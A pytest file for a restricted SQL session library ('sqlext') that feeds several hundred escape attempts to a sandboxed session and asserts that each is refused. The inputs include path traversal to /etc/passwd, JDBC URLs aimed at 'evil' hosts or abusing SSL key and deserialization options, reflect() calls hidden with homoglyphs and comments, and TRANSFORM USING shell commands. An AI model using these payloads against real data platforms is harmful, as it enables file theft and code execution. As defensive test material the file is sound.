"""SQL that tries to leave a restricted session: each attempt is refused before anything runs. No Spark is started."""

from __future__ import annotations

from pathlib import Path

import pytest

import sqlext
from sqlext.errors import SqlExtError
from sqlext.policy import Restrictions
from sqlext.session.api import Session

FILES = "CREATE TABLE t (k STRING) WITH ('connector' = 'filesystem', 'format' = 'csv', 'path' = '{}'{});"
JDBC = "CREATE TABLE t (k STRING) WITH ('connector' = 'jdbc', 'table-name' = 't', 'url' = '{}'{});"
KAFKA = (
    "CREATE TABLE t (k STRING) WITH ('connector' = 'kafka', 'topic' = 't', 'format' = 'json', "
    "'properties.bootstrap.servers' = '{}'{});"
)
OTHER = "CREATE TABLE t (k STRING) WITH ({});"
#: ``{data}`` is the folder that is allowed, ``{base}`` the one above it.
PLACES = (
    *("{data}/link", "{data}/link/deeper", "{data}/../secret", "{data}/in/../../secret", "{data}x", "{base}/catalog"),
    *("{data}", "{base}", "{data}/in{,/../../secret}"),
    *("file://{base}/secret", "FILE://{base}/secret", "file:{base}/secret", "file://{data}/../secret"),
    *("file://{data}/%2e%2e/secret", "file://{data}/..%2fsecret", "file://localhost{base}/secret", "file://h{data}"),
    *(
        "",
        ".",
        "~",
        "/",
        "data",
        "hdfs://h/x",
        "s3a://b/x",
        "http://h/x",
        "jar:file:/x!/y",
        "local:/etc",
        "viewfs:///x",
    ),
    *("{data}/in\0/x", "abfss://c@a.dfs.core.windows.net/x", "C:/x", "\\\\h\\x", "/proc/self/environ", "/dev/stdin"),
)
OPTIONS = (
    *("'recursiveFileLookup' = 'true'", "'basePath' = '/'", "'cleanSource' = 'delete'", "'sourceArchiveDir' = '/tmp'"),
    *("'sink.partition-commit.policy.class' = 'evil.Policy'", "'modifiedBefore' = 'x'", "'PATH' = '/etc'"),
)
URLS = (
    *(
        "jdbc:sqlite:{base}/x.db",
        "jdbc:sqlite:{data}/link/x.db",
        "jdbc:sqlite:{data}/../x.db",
        "JDBC:SQLITE:{base}/x.db",
    ),
    *("jdbc:h2:mem:x;INIT=RUNSCRIPT FROM ''http://h''", "jdbc:derby:/tmp/x;create=true", "jdbc:duckdb:/etc/x"),
    *("jdbc:postgresql://evil:1/d", "jdbc:postgresql://db:1,evil:2/d", "jdbc:postgresql:d", "jdbc:postgresql:///d"),
    *("jdbc:postgresql://%2Fvar%2Frun/d", "jdbc:postgresql://db:1@evil:1/d", "jdbc:postgresql://db:1/d?host=evil"),
    *(f"jdbc:postgresql://db:1/d?{p}=/etc/passwd" for p in ("sslrootcert", "sslcert", "sslkey", "passfile", "service")),
    "jdbc:postgresql://db:1/d?sslrootcert={data}/../secret",
    "jdbc:postgresql://db:1/d?socketFactory=evil.Factory&socketFactoryArg=x",
    "jdbc:mysql://db:1/d?serverSslCert=/etc/passwd",
    *("jdbc:mysql://db:1/d?allowLoadLocalInfile=true", "jdbc:mysql://db:1/d?autoDeserialize=true"),
    *(
        "jdbc:mysql://address=(host=evil)(port=1)/d",
        "jdbc:sqlserver://db:1;serverName=evil",
        "jdbc:oracle:thin:@db:1/x",
    ),
)
CREDENTIALS = (
    *("'password' = 'file:/etc/passwd'", "'password' = 'env:HOME'", "'username' = 'x', 'driver' = 'evil.Driver'"),
)
PROPERTIES = (
    *(
        "ssl.truststore.location",
        "ssl.keystore.location",
        "sasl.jaas.config",
        "interceptor.classes",
        "metric.reporters",
    ),
    *(
        "sasl.oauthbearer.token.endpoint.url",
        "plugin.library.paths",
        "ssl.ca.location",
        "sasl.kerberos.keytab",
        "debug",
    ),
    *("sasl.login.callback.handler.class", "security.providers", "ssl.engine.factory.class", "SSL.TRUSTSTORE.LOCATION"),
)
TABLES = (
    "'connector' = 'spark', 'format' = 'iceberg', 'path' = 'lake.shop.orders'",
    "'connector' = 'opensearch', 'hosts' = 'http://evil:9200', 'index' = 'i'",
    "'connector' = 'opensearch', 'hosts' = 'http://db:1;http://evil:9200', 'index' = 'i'",
    "'connector' = 'socket', 'hostname' = 'evil', 'port' = '1', 'format' = 'csv'",
    "'connector' = 'socket', 'hostname' = 'db', 'port' = '22', 'format' = 'csv'",
    "'connector' = 'spark', 'format' = 'text', 'path' = '/etc'",
    "'connector' = 'spark', 'format' = 'jdbc', 'url' = 'jdbc:sqlite:/x', 'dbtable' = 't'",
    "'connector' = 'spark', 'format' = 'text', 'path' = '{data}/in', 'PATHS' = '/etc'",
    "'connector' = 'spark', 'format' = 'evil.Source', 'path' = '{data}/in'",
    "'connector' = 'delta', 'table-path' = '{base}/d'",
    "'connector' = 'delta', 'table-name' = 'spark_catalog.default.x'",
    "'connector' = 'print', 'path' = '/tmp/x'",
)
FUNCTIONS = (
    *(
        "reflect('a.B', 'c')",
        "`reflect`('a.B', 'c')",
        "REFLECT('a.B', 'c')",
        "try_reflect('a.B', 'c')",
        "java_method('a', 'b')",
    ),
    *("input_file_name()", "input_file_block_length()", "IDENTIFIER('own')", "from_protobuf(k, 'M', '/etc/passwd')"),
    *("from_xml(k, 'a STRING', map('rowValidationXSDPath', '/etc/passwd'))", "schema_of_xml('<a/>')", "ai_gen('x')"),
    *("from_avro(k, '\"int\"', map('avroSchemaUrl', 'file:/etc/passwd'))", "secret('a', 'b')", "http_request('x')"),
    *(
        "transform(array(1), x -> reflect('a', 'b'))",
        "(SELECT reflect('a', 'b'))",
        "CASE WHEN true THEN reflect('a', 'b') END",
    ),
)
STATEMENTS = (
    *("SELECT k FROM own;", "SELECT k FROM peek;", "SELECT x FROM calls;", "CREATE VIEW v AS SELECT k FROM own;"),
    "SELECT k FROM good /*+ OPTIONS('path' = '{base}/secret') */;",
    "INSERT INTO good /*+ OPTIONS('path' = '{base}/out') */ SELECT 'a';",
    *("CREATE TABLE t LIKE own;", "CREATE TABLE t WITH ('path' = '{base}/secret') LIKE good (OVERWRITING OPTIONS);"),
    "ALTER TABLE good SET ('path' = '{base}/secret');",
    "CREATE TABLE t WITH ('connector' = 'filesystem', 'format' = 'csv', 'path' = '{base}/o') AS SELECT k FROM good;",
    "CREATE MATERIALIZED VIEW m WITH ('path' = '{base}/o') AS SELECT k FROM good;",
    *(
        "SELECT * FROM csv.`/etc/passwd`;",
        "SELECT * FROM CSV.`/etc/passwd`;",
        "SELECT * FROM text.`file:///etc/passwd`;",
    ),
    *(
        "CREATE VIEW v AS SELECT * FROM csv.`/etc/passwd`;",
        "DESCRIBE EXTENDED csv.`/etc/passwd`;",
        "TABLE csv.`/etc/passwd`;",
    ),
    *("SELECT * FROM IDENTIFIER('csv.`/etc/passwd`');", "SELECT * FROM read_files('/etc');", "REPLAY own;"),
    *("INSERT OVERWRITE DIRECTORY '/tmp/x' USING csv SELECT 1;", "CREATE TABLE x USING csv LOCATION '/etc';"),
    *(
        "CREATE TABLE x USING csv OPTIONS (path '/etc');",
        "CREATE TEMPORARY VIEW v USING csv OPTIONS (path '/etc/passwd');",
    ),
    *("SET spark.sql.catalog.x = org.apache.iceberg.spark.SparkCatalog;", "SET 'spark.sql.catalog.x.warehouse' = '/';"),
    *("SET spark.jars = /tmp/x.jar;", "SET 'sqlext.checkpoints' = '/tmp';", "SET `spark.sql.runSQLOnFiles` = true;"),
    *(
        "SET spark.sql.variable.substitute = true;",
        "RESET;",
        "RESET spark.sql.runSQLOnFiles;",
        "SET 'spark.SQL.runSQLOnFiles' = 'true';",
    ),
    "CREATE CATALOG c WITH ('type' = 'iceberg', 'catalog-type' = 'hadoop', 'warehouse' = '{base}/w');",
    "CREATE CATALOG c WITH ('type' = 'paimon', 'warehouse' = 'file:{base}/w');",
    "CREATE CATALOG c WITH ('type' = 'jdbc', 'base-url' = 'jdbc:postgresql://evil:1', 'default-database' = 'd');",
    "CREATE CATALOG c WITH ('type' = 'hive', 'hive-conf-dir' = '/etc');",
    *(
        "CREATE FUNCTION f AS 'evil.Udf' LANGUAGE JAVA USING JAR '/tmp/x.jar';",
        "CREATE FUNCTION f AS 'os.system' LANGUAGE PYTHON;",
    ),
    "CREATE FUNCTION f(x STRING) RETURNS STRING LANGUAGE PYTHON AS $$\nimport os\nreturn os.getcwd()\n$$;",
    "CREATE FUNCTION f(x STRING) RETURNS STRING RETURN reflect('java.lang.System', 'getenv', x);",
    *(
        "ADD JAR '/tmp/x.jar';",
        "ADD FILE '/etc/passwd';",
        "LOAD DATA INPATH '/x' INTO TABLE good;",
        "EXECUTE IMMEDIATE 'SELECT 1';",
    ),
    *(
        "BEGIN DECLARE x INT; END;",
        "CALL sys.proc();",
        "LOAD MODULE hive;",
        "USE spark_catalog;",
        "VACUUM good;",
        "DELETE FROM good;",
    ),
    "SELECT TRANSFORM(k) USING 'cat /etc/passwd' AS (x) FROM good;",
    *("DROP TABLE own;", "DROP TABLE IF EXISTS own;", "DROP DATABASE default_database CASCADE;"),
    *("ALTER TABLE own RENAME TO other;", "ALTER TABLE own RESET ('path');", "ALTER TABLE own DROP k;"),
    *("ALTER TABLE own SET ('path' = '{data}/in');", "ALTER TABLE own ADD more INT;"),
    "CREATE OR REPLACE TABLE own (k INT) WITH ('connector' = 'blackhole');",
    "CREATE OR REPLACE TEMPORARY TABLE own (k INT) WITH ('connector' = 'blackhole');",
    *(
        "EXPLAIN SELECT k FROM own;",
        "EXPLAIN SELECT k FROM peek;",
        "ANALYZE WATERMARK FOR own WITH ('delays' = '1 s');",
    ),
    *("EXPLAIN ROW FROM own WHERE k = 'a';", "EXPLAIN ROW FROM letters WHERE text = 'a';"),
    *(
        "REPLAY letters;",
        "REPLAY letters WHERE cause = 'late' SET k = 'a';",
        "REPLAY letters SET k = reflect('a', 'b');",
    ),
    *("DEPLOY INSERT INTO good SELECT k FROM own;", "DEPLOY INSERT INTO own SELECT k FROM good;"),
    "DEPLOY CREATE MATERIALIZED VIEW m WITH ('path' = '{base}/o') AS SELECT k FROM good;",
    "EXECUTE STATEMENT SET BEGIN INSERT INTO good SELECT k FROM good; INSERT INTO own SELECT k FROM good; END;",
    *("SET 'sqlext.dead-letters.table' = 'letters'; INSERT INTO good SELECT k FROM good;",),
    "SELECT k FROM good /*+ OPTIONS('sqlext.bad-rows' = 'letters') */;",
    "SELECT k FROM good WHERE k IN (SELECT k FROM own);",
    *("COPY INTO good FROM '/etc' FILEFORMAT = CSV;", "CONVERT TO DELTA parquet.`/etc`;", "REFRESH '/etc';"),
    *("CREATE TABLE c SHALLOW CLONE delta.`/etc`;", "RESTORE TABLE good TO VERSION AS OF 0;", "MSCK REPAIR TABLE own;"),
    *("CREATE DATABASE d LOCATION '/etc';", "COMPILE PLAN '/tmp/p' FOR INSERT INTO good SELECT k FROM good;"),
    *(
        "CREATE CATALOG c WITH ('type' = 'paimon', 'warehouse' = '{data}/w', 'metastore' = 'hive', 'uri' = 'thrift://e:1');",
    ),
    "CREATE CATALOG c WITH ('type' = 'iceberg', 'catalog-type' = 'rest', 'uri' = 'http://evil');",
    *(
        "SET 'state.checkpoints.dir' = '/etc';",
        "SET 'execution.savepoint.path' = '/etc';",
        "SET 'sqlext.engine' = 'auto';",
    ),
    *("DECLARE x STRING DEFAULT 'a';", "SET VAR x = 1;", "SELECT * FROM cloud_files('/etc', 'csv');"),
    *("WITH c AS (SELECT reflect('a', 'b') AS x) SELECT x FROM c;", "EXPLAIN SELECT reflect('a', 'b');"),
    "SELECT k FROM good LATERAL VIEW explode(array(reflect('a', 'b'))) z AS x;",
    *(
        f"SELECT {call} FROM good;"
        for call in (
            "system.builtin.reflect('a', 'b')",
            "`system`.`builtin`.`reflect`('a', 'b')",
            "reflect /* x */ ('a', 'b')",
            "reflect -- x\n('a', 'b')",
            "reflect /*+ X */ ('a', 'b')",
            "{fn reflect('a', 'b')}",
            "k.reflect('a', 'b')",
            "\uff52\uff45\uff46\uff4c\uff45\uff43\uff54('a', 'b')",
            "r\u0435flect('a', 'b')",
            "`re``flect`('a', 'b')",
            "try_from_xml('<a/>', 'a STRING')",
            "current_metastore()",
            "pg_read_file('/etc/passwd')",
            "load_file('/x')",
        )
    ),
    *("FROM good |> SELECT reflect('a', 'b');", "SELECT k FROM good |> EXTEND reflect('a', 'b') AS x;", "TABLE own;"),
    "SELECT * FROM good PIVOT (MAX(reflect('a', 'b')) FOR k IN ('a'));",
    "SELECT * FROM good, LATERAL (SELECT reflect('a', 'b'));",
    "SELECT k, COUNT(*) OVER (PARTITION BY reflect('a', 'b')) AS n FROM good;",
    *(f"SELECT k FROM good {clause} reflect('a', 'b');" for clause in ("ORDER BY", "LIMIT", "QUALIFY k =", "OFFSET")),
    *(
        f"SELECT * FROM {place};"
        for place in (
            "binaryFile.`/etc/passwd`",
            "orc.`/etc`",
            "delta.`{base}/secret`",
            "STREAM own",
            "STREAM(own)",
            "own@v0",
            "`org.apache.spark.sql.execution.datasources.csv.CSVFileFormat`.`/etc/passwd`",
            "global_temp.x",
            "text.`/etc/passwd` TABLESAMPLE (1 ROWS)",
            "table_changes('own', 0)",
            "read_statestore('/x')",
            "read_kafka(bootstrapServers => 'evil:1')",
            "python_worker_logs()",
            "range(1, 1000000000000)",
            "own TIMESTAMP AS OF '2024-01-01'",
            "own FOR SYSTEM_TIME AS OF TIMESTAMP '2024-01-01'",
        )
    ),
    *("INSERT INTO csv.`/tmp/x` SELECT k FROM good;", "INSERT INTO TABLE IDENTIFIER('good') SELECT k FROM good;"),
    "INSERT OVERWRITE LOCAL DIRECTORY '/tmp/x' SELECT k FROM good;",
    "MERGE INTO good USING own ON good.k = own.k WHEN MATCHED THEN DELETE;",
    *(
        "UPDATE good SET k = 'x';",
        "TRUNCATE TABLE own;",
        "ALTER TABLE good SET LOCATION '/etc';",
        "GRANT ALL ON own TO x;",
    ),
    *("CREATE TABLE x (a INT) STORED BY 'evil.Handler';", "CREATE TABLE x (a INT) ROW FORMAT SERDE 'evil.Serde';"),
    *("CREATE FUNCTION f AS 'java.lang.System';", "CREATE TEMPORARY SYSTEM FUNCTION f AS 'evil.Udf';"),
    "CREATE FUNCTION f() RETURNS TABLE (a STRING) RETURN SELECT * FROM csv.`/etc/passwd`;",
    *("CREATE MODEL m WITH ('provider' = 'openai', 'endpoint' = 'http://evil');", "CREATE CONNECTION c TYPE x;"),
    *(f"SET {what};" for what in ("hivevar:x=reflect", "system:user.home=/", "env:PATH", "-v", "ROLE admin")),
    *(f"SET {what};" for what in ("' spark.sql.runSQLOnFiles' = 'true'", "CATALOG spark_catalog", "TIME ZONE 'UTC'")),
    *(
        "LIST JARS;",
        "LIST FILES;",
        "ADD ARCHIVE '/tmp/x.zip';",
        "DESCRIBE FUNCTION EXTENDED reflect;",
        "SHOW TABLE EXTENDED LIKE '*';",
    ),
    *(
        "SELECT TRANSFORM(k) USING 'cat' FROM good;",
        "FROM good MAP k USING 'cat' AS x;",
        "FROM good REDUCE k USING 'cat';",
    ),
    *("FROM good INSERT INTO own SELECT k;", "FROM good SELECT TRANSFORM(k) USING 'cat' AS (x);"),
    "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r) SELECT * FROM r;",
    "SELECT a.k FROM good a CROSS JOIN good b CROSS JOIN good c;",
    "CREATE TABLE t (k STRING, c AS reflect('a', 'b')) WITH ('connector' = 'blackhole');",
    "CREATE TABLE t (k STRING, ts TIMESTAMP(3), WATERMARK FOR ts AS reflect('a', 'b')) WITH ('connector' = 'datagen');",
    "CREATE TABLE t (n STRING) WITH ('connector' = 'datagen', 'fields.n.length' = '2000000000'); SELECT n FROM t;",
    *(
        f"CREATE TABLE t (n STRING) WITH ('connector' = 'faker', 'fields.n.expression' = '#{{{call}}}');"
        for call in ("regexify ''(a{99999}){99999}''", "Lorem.characters ''999999999''")
    ),
    "CREATE OR REPLACE TEMPORARY VIEW own AS SELECT k FROM good;",
    "CREATE TEMPORARY TABLE own (k STRING) WITH ('connector' = 'blackhole'); DROP TABLE own;",
    "CREATE DATABASE csv; CREATE VIEW csv.x AS SELECT k FROM good; DROP VIEW csv.x; SELECT * FROM csv.`/etc/passwd`;",
)


def _attempts() -> list[str]:
    return [
        *(FILES.format(place, "") for place in PLACES),
        *(FILES.format("{data}/in", f", {option}") for option in OPTIONS),
        *(JDBC.format(url, "") for url in URLS),
        *(JDBC.format("jdbc:postgresql://db:1/d", f", {more}") for more in CREDENTIALS),
        *(KAFKA.format(servers, "") for servers in ("evil:1", "db:1,evil:1")),
        *(KAFKA.format("db:1", f", 'properties.{key}' = '/etc/passwd'") for key in PROPERTIES),
        KAFKA.format("db:1", ", 'avro-confluent.url' = 'http://evil'").replace("json", "avro-confluent"),
        *(OTHER.format(options) for options in TABLES),
        *(f"SELECT {call} FROM good;" for call in FUNCTIONS),
        *(f"INSERT INTO good SELECT CAST({call} AS STRING) FROM good;" for call in FUNCTIONS),
        *STATEMENTS,
    ]


@pytest.fixture(scope="module")
def base(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A folder with one that is allowed, a secret beside it, and a catalog that a session without limits has filled."""
    base = tmp_path_factory.mktemp("hostile")
    for folder in ("data/in", "secret"):
        (base / folder).mkdir(parents=True)
        (base / folder / "a.csv").write_text("a\n", "utf-8")
    (base / "data" / "link").symlink_to(base / "secret")
    sqlext.connect(catalog=base / "catalog").run(
        f"{FILES.format(base / 'secret', '').replace(' t ', ' own ')} CREATE VIEW peek AS SELECT k FROM own;"
        "CREATE VIEW calls AS SELECT reflect('a.B', 'c') AS x FROM (VALUES (1)) AS t(a);"
        f"{FILES.format(base / 'data' / 'in', '').replace(' t ', ' good ')}"
        "CREATE TABLE letters (letter STRING, query_name STRING, cause STRING, source STRING, text STRING) "
        f"WITH ('connector' = 'delta', 'path' = '{base}/secret/letters');"
    )
    return base


@pytest.fixture(scope="module")
def hostile(base: Path) -> Session:
    connectors = "filesystem delta jdbc kafka datagen print blackhole opensearch faker socket spark".split()
    may = Restrictions(paths=(str(base / "data"),), hosts=("db:1", "http://db:1"), connectors=tuple(connectors))
    return sqlext.connect(catalog=base / "catalog", restricted=may)


@pytest.mark.parametrize("attempt", _attempts(), ids=lambda text: text.replace("\0", "NUL")[-60:])
def test_it_is_refused(base: Path, hostile: Session, attempt: str) -> None:
    text = attempt.replace("{data}", str(base / "data")).replace("{base}", str(base))
    found = hostile.check(text)
    assert found
    assert "secret/a.csv" not in found[0].render()


def test_how_many() -> None:
    assert len(set(_attempts())) > 290


@pytest.mark.parametrize("read", ["SELECT k FROM own", "SELECT k FROM peek", "SELECT x AS k FROM calls"])
def test_what_python_asks_for(hostile: Session, read: str) -> None:
    """Faces that hand on SQL of others: each gives the refusal, and nothing is read."""
    job = f"INSERT INTO good {read};"
    for ask in (hostile.plan, hostile.deploy, hostile.roll_back, hostile.explain, hostile.rewrite, hostile.query):
        with pytest.raises(SqlExtError) as refused:
            ask(read if ask == hostile.query else job)
        assert refused.value.code.startswith("RESTRICT")
    for table in (hostile.table, hostile.preview):
        with pytest.raises(SqlExtError) as refused:
            table("own")
        assert refused.value.code == "RESTRICT-002"


def test_what_is_the_owners_stays(base: Path, hostile: Session) -> None:
    for statement in ("DROP TABLE own", "DROP DATABASE default_database CASCADE", "ALTER TABLE own RENAME TO other"):
        with pytest.raises(SqlExtError):
            hostile.run(f"{statement};")
    hostile.run("CREATE DATABASE theirs; CREATE TABLE theirs.t (k INT) WITH ('connector' = 'blackhole');")
    hostile.run("ALTER TABLE theirs.t RENAME TO u; DROP TABLE theirs.u; DROP DATABASE theirs;")
    names = [row[0] for row in sqlext.connect(catalog=base / "catalog").sql("SHOW TABLES").rows]
    assert {"own", "good", "letters"} <= set(names)
